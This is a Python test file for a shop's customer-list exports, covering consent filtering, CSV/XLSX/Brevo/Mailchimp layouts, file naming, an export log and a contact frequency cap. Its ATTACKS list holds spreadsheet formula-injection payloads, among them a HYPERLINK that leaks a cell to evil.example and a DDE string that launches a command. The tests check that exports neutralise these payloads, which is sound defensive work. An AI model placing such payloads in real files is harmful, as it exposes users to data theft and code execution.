"""List exports: consent filter, formula neutralisation, CSV/XLSX/Brevo/Mailchimp files, the
export log, and ``python -m metrics segment``. The people are the hand-computed shop of
tests/metrics/test_segment.py (1, 2 and 6 accept emails; 3 refuses, 4 is suppressed, 5 was never
asked; 1, 4 and 6 accept SMS, 2 refuses them; 2 and 5 refused calls)."""

from __future__ import annotations

import io
from datetime import datetime

import openpyxl
import pandas as pd
import pytest

import store
from exports import (
    EXPORT_FORMATS,
    build_export,
    consenting,
    csv_bytes,
    export_counts,
    export_log,
    log_export,
    needs_contacts,
    neutralise_formulas,
    xlsx_bytes,
)
from exports.names import rejects_file_name, report_file_name, safe_stem
from metrics.cli import main
from metrics.segment import (
    SegmentFilter,
    describe,
    segment_contacts,
    segment_customers,
    segment_totals,
)
from tests.metrics.test_segment import insert_people

BOM = b"\xef\xbb\xbf"
WHEN = datetime(2024, 3, 11, 9, 30)
ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def shop(con):
    insert_people(con)
    return con


@pytest.fixture
def people(shop):
    return segment_customers(shop)


def lines(data: bytes) -> list[str]:
    assert data.startswith(BOM)
    return data[len(BOM):].decode("utf-8").split("\r\n")


def hostile(people: pd.DataFrame) -> pd.DataFrame:
    """The shop's consenting people with attack strings as first names."""
    out = people[people["email_marketing"]].head(3).copy()
    out["first_name"] = pd.Series(ATTACKS[:3], index=out.index, dtype="str")
    out["last_name"] = pd.Series(ATTACKS[3:], index=out.index, dtype="str")
    return out


def test_consent_filter_and_count_left_out(people):
    kept, left_out, recent = consenting(people)
    assert kept["customer_id"].tolist() == [1, 2, 6]
    assert (left_out, recent) == (3, 0)
    everyone, none_left, recent = consenting(people, consent_only=False)
    assert len(everyone) == 6
    assert (none_left, recent) == (0, 0)


def test_csv_utf8_bom_semicolon_consenting_only(people):
    export = build_export(people, "csv", segments=("at_risk",), when=WHEN)
    assert (export.rows, export.left_out, export.unusable) == (3, 3, 0)
    assert export.file_name == "clients_a_risque_reguliers_2024-03-11.csv"
    assert export.mime == "text/csv"
    rows = lines(export.data)
    assert rows[0] == (
        "N° client;Prénom;Nom;E-mail;Téléphone;Code postal;Ville;Segment;Commandes;"
        "Dépense nette (€);Dernière commande;Accepte les e-mails;Accepte les SMS;"
        "Refuse les appels"
    )
    assert rows[1] == (
        "1;Prénom1;Nom1;client1@example.fr;+33612345671;69001;Lyon;Champions;5;145,00;"
        "05/03/2024;oui;oui;non"
    )
    assert [row.split(";")[0] for row in rows[1:-1]] == ["1", "2", "6"]
    assert rows[2].endswith(";oui;non;oui")  # 2 refused SMS and calls
    assert rows[3].endswith(";Sans achat;0;0,00;;oui;oui;non")  # a contact who never bought
    assert rows[-1] == ""


def test_csv_comma_and_english(people):
    export = build_export(people, "csv", consent_only=False, sep=",", lang="en", when=WHEN)
    rows = lines(export.data)
    assert rows[0].startswith("Customer no.,First name,Last name,Email,")
    assert rows[1].endswith(",Champions,5,145.00,2024-03-05,yes,yes,no")
    assert (export.rows, export.left_out) == (6, 0)


@pytest.mark.parametrize(("segments", "fmt", "lang", "name"), [
    (("at_risk",), "csv", "fr", "clients_a_risque_reguliers_2026-11-30.csv"),
    (("at_risk",), "csv", "en", "customers_at_risk_regulars_2026-11-30.csv"),
    (("cant_lose", "about_to_sleep"), "xlsx", "fr",
     "clients_a_risque_a_ne_pas_perdre_en_train_de_s_endormir_2026-11-30.xlsx"),
    (("cant_lose",), "xlsx", "en", "customers_at_risk_can_t_lose_them_2026-11-30.xlsx"),
    (("need_attention", "none"), "mailchimp", "fr",
     "clients_a_surveiller_sans_achat_2026-11-30_mailchimp.csv"),
    ((), "brevo", "en", "customers_2026-11-30_brevo.csv"),
    (("Fidèles d'été",), "csv", "fr", "clients_fideles_d_ete_2026-11-30.csv"),  # custom segment
])
def test_export_file_names_in_the_owners_language(people, segments, fmt, lang, name):
    export = build_export(people, fmt, segments=segments, lang=lang, when=datetime(2026, 11, 30))
    assert export.file_name == name


def test_file_names_are_plain_ascii_without_spaces():
    assert report_file_name("2026-W46", "xlsx") == "rapport_semaine_2026-W46.xlsx"
    assert report_file_name("2026-W46", "html", "en") == "weekly_report_2026-W46.html"
    assert rejects_file_name("Ventes été 2025 (copie).CSV") == "rejets_ventes_ete_2025_copie.csv"
    assert rejects_file_name("import 3", "en") == "rejects_import_3.csv"
    assert rejects_file_name("«».csv") == "rejets_fichier.csv"
    assert safe_stem("  Œuvres à l’Été — N°2 ") == "oeuvres_a_l_ete_n_2"


def test_brevo_layout(people):
    export = build_export(people, "brevo", when=WHEN)
    assert export.file_name == "clients_2024-03-11_brevo.csv"
    assert lines(export.data)[:3] == [
        "EMAIL;FIRSTNAME;LASTNAME;SMS",
        "client1@example.fr;Prénom1;Nom1;+33612345671",  # E.164 kept as Brevo requires it
        "client2@example.fr;Prénom2;Nom2;",  # 2 refused SMS: no number for Brevo to text
    ]


def test_mailchimp_layout_always_comma(people):
    export = build_export(people, "mailchimp", sep=";", when=WHEN)
    rows = lines(export.data)
    assert rows[0] == "Email Address,First Name,Last Name,Address,Phone Number,Tags"
    assert rows[1] == "client1@example.fr,Prénom1,Nom1,Lyon  69001,+33612345671,Champions"
    assert rows[3] == "client6@example.fr,Prénom6,Nom6,Lyon  69002,+33612345676,Sans achat"


def test_services_drop_who_they_cannot_take(people):
    people = people.copy()
    people.loc[people["customer_id"] == 3, "email"] = pd.NA
    people.loc[people["customer_id"] == 3, "phone"] = pd.NA
    people.loc[people["customer_id"] == 5, "email"] = pd.NA
    mailchimp = build_export(people, "mailchimp", consent_only=False, when=WHEN)
    assert (mailchimp.rows, mailchimp.unusable) == (4, 2)  # 3 and 5 have no email
    brevo = build_export(people, "brevo", consent_only=False, when=WHEN)
    assert (brevo.rows, brevo.unusable) == (4, 2)  # 5's phone never said yes to SMS
    standard = build_export(people, "csv", consent_only=False, when=WHEN)
    assert (standard.rows, standard.unusable) == (6, 0)


@pytest.mark.parametrize("fmt", EXPORT_FORMATS)
@pytest.mark.parametrize("consent_only", [True, False])
def test_the_counts_said_before_the_file_are_the_files(shop, fmt, consent_only):
    """The Segments page says who the file will hold before it is built (at the click), from
    the list's totals counted in the database."""
    shop.execute("update customers set email = null, phone = null where customer_id = 3")
    shop.execute("update customers set email = null where customer_id = 5")
    contacts = segment_contacts(shop)
    assert contacts == {"with_email": 4, "with_email_or_sms": 4}
    built = build_export(segment_customers(shop), fmt, consent_only=consent_only, when=WHEN)
    said = export_counts(fmt, consent_only, segment_totals(shop),
                         contacts if needs_contacts(fmt, consent_only) else None)
    everyone = {"csv": (6, 0, 0), "xlsx": (6, 0, 0), "brevo": (4, 0, 2), "mailchimp": (4, 0, 2)}
    assert said[:3] == (built.rows, built.left_out, built.unusable) == (
        (3, 3, 0) if consent_only else everyone[fmt])


def test_neutralise_formulas():
    table = pd.DataFrame(
        {
            "text": [*ATTACKS, "Zoé = moi", "+33612345678", "+33 6 12", None],
            "n": range(10),
        }
    ).astype({"text": "str"})
    safe = neutralise_formulas(table)
    assert safe["text"].iloc[:6].tolist() == ["'" + attack for attack in ATTACKS]
    assert safe["text"].iloc[6:9].tolist() == ["Zoé = moi", "+33612345678", "'+33 6 12"]
    assert pd.isna(safe["text"].iloc[9])
    assert safe["n"].tolist() == list(range(10))
    assert table["text"].iloc[0] == ATTACKS[0]  # the caller's table is left alone


@pytest.mark.parametrize(
    ("fmt", "sep", "first", "last"),
    [("csv", ";", "Prénom", "Nom"), ("brevo", ";", "FIRSTNAME", "LASTNAME"),
     ("mailchimp", ",", "First Name", "Last Name")],
)
def test_csv_files_neutralise_every_attack(people, fmt, sep, first, last):
    data = build_export(hostile(people), fmt, when=WHEN).data
    parsed = pd.read_csv(io.BytesIO(data), sep=sep, encoding="utf-8-sig", dtype=str)
    assert parsed[first].tolist() == ["'" + attack for attack in ATTACKS[:3]]
    assert parsed[last].tolist() == ["'" + attack for attack in ATTACKS[3:]]


def test_xlsx_has_no_formula_and_neutralised_text(people):
    export = build_export(hostile(people), "xlsx", when=WHEN)
    assert export.file_name.endswith(".xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(export.data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0][:3] == ["N° client", "Prénom", "Nom"]
    assert [row[1] for row in values[1:]] == ["'" + attack for attack in ATTACKS[:3]]
    # XlsxWriter stores a carriage return as OOXML's _x000D_ escape, which openpyxl leaves as is
    last_names = [row[2].replace("_x000D_", "\r") for row in values[1:]]
    assert last_names == ["'" + attack for attack in ATTACKS[3:]]
    assert values[1][0] == 1  # numbers stay numbers
    assert values[1][9] == 145.0
    assert values[1][10] == datetime(2024, 3, 5)
    assert sheet.cell(2, 11).number_format == "dd/mm/yyyy"


def test_writers_keep_strings_that_look_like_formulas_as_text():
    table = pd.DataFrame({"a": ["=1+1", "http://x.example", "0612"]}).astype("str")
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(table, "Clients"))).active
    assert [sheet.cell(row, 1).value for row in (2, 3, 4)] == ["'=1+1", "http://x.example", "0612"]
    assert [sheet.cell(row, 1).data_type for row in (2, 3, 4)] == ["s", "s", "s"]
    assert sheet.cell(3, 1).hyperlink is None
    with pytest.raises(ValueError, match="sep"):
        csv_bytes(table, sep="|")


def test_export_log_rows(shop, people):
    asked = SegmentFilter(segments=("champions", "none"), consent_only=False)
    first = build_export(people, "csv", when=WHEN)
    second = build_export(segment_customers(shop, asked), "brevo", consent_only=False,
                          segments=asked.segments, when=datetime(2024, 3, 12, 8, 0))
    assert log_export(shop, first, describe(SegmentFilter())) == 1
    assert log_export(shop, second, describe(asked), asked.to_json()) == 2
    log = export_log(shop)
    assert log.drop(columns="export_id").to_dict("records") == [
        {
            "exported_at": pd.Timestamp("2024-03-12 08:00"),
            "description": "Segments : Champions, Sans achat",
            "format": "brevo",
            "channel": "email",
            "consent_only": False,
            "rows_exported": 2,
            "rows_left_out": 0,
            "rows_recently_contacted": 0,
            "file_name": "clients_champions_sans_achat_2024-03-12_brevo.csv",
        },
        {
            "exported_at": pd.Timestamp("2024-03-11 09:30"),
            "description": "Toutes les personnes de la base (clients et contacts sans achat)",
            "format": "csv",
            "channel": "email",
            "consent_only": True,
            "rows_exported": 3,
            "rows_left_out": 3,
            "rows_recently_contacted": 0,
            "file_name": "clients_2024-03-11.csv",
        },
    ]
    saved = shop.execute("select filter from export_log where export_id = 2").fetchone()[0]
    assert '"segments": ["champions", "none"]' in saved


@pytest.fixture
def shop_db(tmp_path):
    path = tmp_path / "shop.duckdb"
    connection = store.connect(path)
    insert_people(connection)
    connection.close()
    return str(path)


def test_cli_segment_export_is_written_and_logged(capsys, shop_db, tmp_path):
    out = tmp_path / "a_relancer.csv"
    code = main(["segment", "--db", shop_db, "--segment", "potential_loyalists", "--segment",
                 "promising", "--format", "csv", "--out", str(out)])
    assert code == 0
    assert capsys.readouterr().out == (
        f"1 personne exportée dans {out} (Segments : Fidèles potentiels, Prometteurs ; pas "
        "contacté depuis 14 jours) ; 2 "
        "laissées de côté faute de consentement (e-mail). 0 personne contactée ces 14 derniers "
        "jours laissée de côté.\n"
    )
    rows = lines(out.read_bytes())
    assert [row.split(";")[0] for row in rows[1:-1]] == ["2"]  # 3 refuses, 4 is suppressed
    connection = store.connect(shop_db)
    try:
        log = export_log(connection)
    finally:
        connection.close()
    assert log[["description", "format", "rows_exported", "rows_left_out"]].values.tolist() == [
        ["Segments : Fidèles potentiels, Prometteurs ; pas contacté depuis 14 jours", "csv", 1, 2]
    ]
    assert main(["segment", "--db", shop_db, "--segment", "potential_loyalists", "--segment",
                 "promising", "--format", "csv", "--out", str(out), "--lang", "en"]) == 0
    assert capsys.readouterr().out == (  # 2 was contacted by the first export: the cap
        f"0 people exported to {out} (Segments: Potential loyalists, Promising; not contacted in "
        "the last 14 days); 2 left out for "
        "lack of consent (email). 1 person contacted in the last 14 days left out.\n"
    )


def test_cli_segment_everyone_for_mailchimp_and_table(capsys, shop_db, tmp_path):
    out = tmp_path / "tous.csv"
    code = main(["segment", "--db", shop_db, "--no-consent-only", "--format", "mailchimp",
                 "--out", str(out)])
    assert code == 0
    assert len(lines(out.read_bytes())) == 8  # header, 6 people, final line end
    assert main(["segment", "--db", shop_db, "--segment", "champions"]) == 0
    printed = capsys.readouterr().out
    assert "Personnes : 1" in printed.splitlines()
    assert "client1@example.fr" in printed


def test_cli_segment_refusals(capsys, shop_db):
    assert main(["segment", "--db", shop_db, "--format", "xlsx"]) == 2
    assert "--out" in capsys.readouterr().err
    with pytest.raises(SystemExit) as exit_info:
        main(["kpis", "--db", shop_db, "--format", "brevo"])
    assert exit_info.value.code == 2
    with pytest.raises(SystemExit):
        main(["segment", "--db", shop_db, "--segment", "vip"])


@pytest.mark.parametrize(("channel", "expected"), [
    ("email", [1, 2, 6]),  # 3 refused e-mails, 4 is suppressed, 5 never said
    ("sms", [1, 4, 6]),  # 2 refused SMS; 3 and 5 never said, so no
    ("phone", [1, 3, 4, 6]),  # 2 and 5 refused calls; not asking is no refusal
])
@pytest.mark.parametrize("fmt", ["csv", "xlsx", "brevo", "mailchimp"])
def test_every_layout_keeps_only_who_the_channel_may_reach(shop, fmt, channel, expected):
    people = segment_customers(shop, SegmentFilter(channel=channel))
    export = build_export(people, fmt, when=WHEN, channel=channel)
    assert export.left_out == 6 - len(expected)
    if fmt == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(export.data)).active
        ids = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
        assert sorted(ids) == expected
    elif fmt == "csv":
        assert sorted(int(row.split(";")[0]) for row in lines(export.data)[1:-1]) == expected
    else:  # everyone kept has an e-mail, which both services take
        assert sorted(export.customer_ids) == expected
    if fmt == "brevo":
        sms = {row.split(";")[0]: row.split(";")[3] for row in lines(export.data)[1:-1]}
        # only the phones of people who said yes to SMS, whatever the list's channel
        assert {email for email, phone in sms.items() if phone} <= {
            "client1@example.fr", "client4@example.fr", "client6@example.fr"}


def test_the_counts_said_before_an_sms_list_are_the_files(shop):
    sms = SegmentFilter(channel="sms")
    for fmt in EXPORT_FORMATS:
        built = build_export(segment_customers(shop, sms), fmt, when=WHEN, channel="sms")
        contacts = segment_contacts(shop, sms, consent_only=True)
        said = export_counts(fmt, True, segment_totals(shop, sms),
                             contacts if needs_contacts(fmt, True, "sms") else None, "sms")
        assert said == (built.rows, built.left_out, built.unusable, 0)


def test_an_export_whose_contacts_cannot_be_written_is_not_logged(shop, monkeypatch):
    """The export's log row and its people's contacts are one transaction (store.transaction,
    joined by metrics.contacts.log_contacts): a failure in the second leaves neither."""
    import metrics.contacts

    def failing(cur, name, **params):
        raise OSError("disk gone")

    export = build_export(segment_customers(shop, SegmentFilter(segments=("champions",))), "csv",
                          when=datetime.now())
    monkeypatch.setattr(metrics.contacts, "run", failing)
    with pytest.raises(OSError, match="disk gone"):
        log_export(shop, export, "Champions")

    assert export_log(shop).empty
    assert shop.execute("select count(*) from contact_log").fetchone() == (0,)


def test_an_export_writes_the_contact_log_and_the_next_one_leaves_them_out(shop):
    """The frequency cap: a person in a file is not in the next one for not_contacted_days."""
    first = build_export(segment_customers(shop, SegmentFilter(segments=("champions",))), "csv",
                         when=datetime.now())
    log_export(shop, first, "Champions")
    assert shop.execute("select customer_id, channel, list_name from contact_log").fetchall() == [
        (1, "email", "Champions")]
    capped = SegmentFilter(not_contacted_days=14)
    people = segment_customers(shop, capped)
    assert people.loc[people["customer_id"] == 1, "recently_contacted"].tolist() == [True]
    second = build_export(people, "csv", when=datetime.now())
    assert (second.rows, second.left_out, second.recently_contacted) == (2, 3, 1)
    assert second.customer_ids == (2, 6)
    said = export_counts("csv", True, segment_totals(shop, capped))
    assert said == (2, 3, 0, 1)
    assert describe(capped) == "pas contacté depuis 14 jours"
    uncapped = build_export(segment_customers(shop, SegmentFilter(not_contacted_days=0)), "csv",
                            when=datetime.now())
    assert uncapped.rows == 3
